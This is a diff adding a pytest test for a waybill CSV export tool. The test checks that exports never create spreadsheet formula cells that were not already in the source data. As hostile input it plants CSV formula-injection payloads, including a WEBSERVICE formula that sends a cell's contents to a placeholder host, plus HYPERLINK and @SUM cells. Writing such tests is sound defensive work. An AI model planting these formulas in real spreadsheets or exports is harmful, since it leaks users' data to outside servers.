@@ -174,3 +174,21 @@ def test_tampering_with_the_history_is_detected(registry, tmp_path, waybills, cl
     assert result.exit_code == 1
     assert result.stderr == ("Error: registry check failed: export 1: its entry, its canaries "
                              "or an earlier entry was altered\n")
+
+
+def test_exports_never_create_a_formula_cell(registry, tmp_path, waybills):
+    """A cell a spreadsheet would run (=, +, -, @ first) appears in an export only if the source had it."""
+    header, rows = waybills
+    hostile = [list(r) for r in rows[:400]]
+    for i in range(0, 400, 7):
+        hostile[i][1] = '=HYPERLINK("http://example.invalid","点我")'
+        hostile[i][3] = "=WEBSERVICE(\"http://example.invalid/\"&A1)江苏省南京市玄武区中山路88号"
+        hostile[i][7] = "@SUM(A1:A9)"
+    source = write_csv(tmp_path / "src.csv", header, hostile)
+    api.export(registry, source, account="alice", output=tmp_path / "out.csv")
+    known = {cell for row in hostile for cell in row}
+    _, out_rows = read_csv(tmp_path / "out.csv")
+    for row in out_rows:
+        for cell in row:
+            if cell[:1] in ("=", "+", "-", "@"):
+                assert cell in known, cell
